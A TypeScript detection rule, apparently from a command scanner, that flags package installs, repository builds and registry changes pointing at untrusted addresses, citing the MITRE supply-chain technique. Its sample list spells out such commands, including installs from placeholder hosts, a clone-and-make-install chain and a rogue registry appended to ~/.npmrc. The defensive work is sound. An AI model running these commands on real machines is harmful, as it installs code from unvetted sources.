import type { Rule } from '../../rule.ts';
import { expression } from '../boundary.ts';
import { WORD_START } from '../shell_syntax.ts';
import { isOddUrl } from '../url_sense.ts';
import { PIPE_TO_SHELL } from './format.ts';

/** Packages, which run what they like when they are installed. */
export const PACKAGE_RULES: readonly Rule[] = [
  {
    ...PIPE_TO_SHELL,
    id: 'package_from_odd_place',
    confidence: 'medium',
    source: 'https://attack.mitre.org/techniques/T1195/001/',
    keywords: [
      ...[
        'pip install',
        'pip3 install',
        'index-url',
        'npm install http',
        'npm i http',
        'npm install git+',
        'npm i git+',
      ],
      ...[
        'npx http',

        '--registry',
        'gem install',
        'go install http',
        'uvx --from',
        'git clone',
        'deno run',
        'bun run http',
        'bunx http',

        'config set registry',
        'registry=http',
        'index-url=http',
        'index-url = http',
      ],
      'uvx http',
      'uv pip',
      'uv add',
      'uv tool',
      'uv run http',
      'npm install -',
      'npm i -',
      'npm add',
      'pnpm add',
      'pnpm install',
      'pnpm i ',
      'yarn add',
      'npx -',
      'cargo install',
    ],
    expression: expression(
      'gi',
      WORD_START,
      '(?:',
      String.raw`(?:pip3?|uvx?|npm|pnpm|yarn|npx|gem|deno[ \t]{1,4}run|bunx|bun[ \t]{1,4}run|cargo[ \t]{1,4}install)[ \t][^\r\n;|&]{0,100}?(?:https?://[^\s"'\\;|&<>]{3,160})`,
      String.raw`|git[ \t]{1,4}clone[ \t][^\r\n;|&]{0,40}?https?://[^\s"'\\;|&<>]{3,120}[^\r\n;|&]{0,40}(?:&&|;)[^\r\n|]{0,60}?(?:&&|;)?[ \t]{0,4}(?:sudo[ \t]{1,4})?(?:make|(?:ba)?sh|python3?|\./|npm|pip3?|cargo)[^\r\n;|&]{0,40}`,
      String.raw`|(?:echo|printf)[ \t][^\r\n]{0,60}?(?:registry|index-url)[ \t]{0,2}=[ \t]{0,2}https?://[^\s"'\\;|&<>]{3,120}[^\r\n]{0,20}>[ \t]{0,4}[^\s;|&]{0,40}(?:npmrc|pip\.conf|pip\.ini|bunfig\.toml)`,
      ')',
    ),
    reach: { before: 110, after: 360 },
    // A user's name alone is how git URLs name an account.
    validate: ({ text }) =>
      !/^npm[ \t]{1,4}(?:login|adduser|publish)\b/i.test(text) &&
      isOddUrl((/https?:\/\/[^\s"'\\;|&<>]+/i.exec(text)?.[0] ?? '').replace(/(?<=:\/\/)[\w-]{1,40}@/, '')),
    describes:
      'A package installed, or a repository built and run, from an address that no registry stands for.',
    get finds() {
      return [
        'pip install http://192.0.2.1/x.tar.gz',
        'pip install x --index-url http://pypi.x.example/simple',
        'npm install http://x.example/a.tgz',
        'npx -y https://192.0.2.1:8080/a.tgz',
        'git clone http://192.0.2.1/a.git && cd a && make install',
        'deno run -A http://x.example/a.ts',
        'npm config set registry http://x.example',
        'echo "registry=http://x.example" >> ~/.npmrc',
      ];
    },
    get ignores() {
      return [
        'pip install git+https://github.example/a/b.git',
        'pip install torch --index-url https://download.x.example/whl/cu118',
        'npm install --registry http://localhost:4873 a',
        'git clone https://git.x.example/a && cd a && make',
        'git clone http://192.0.2.1/a.git',
        'npm config get registry',
        'npm install git+https://isaacs@git.x.example/npm/cli.git',
        'npm login --registry=http://reg.x.example',
      ];
    },
  },
];
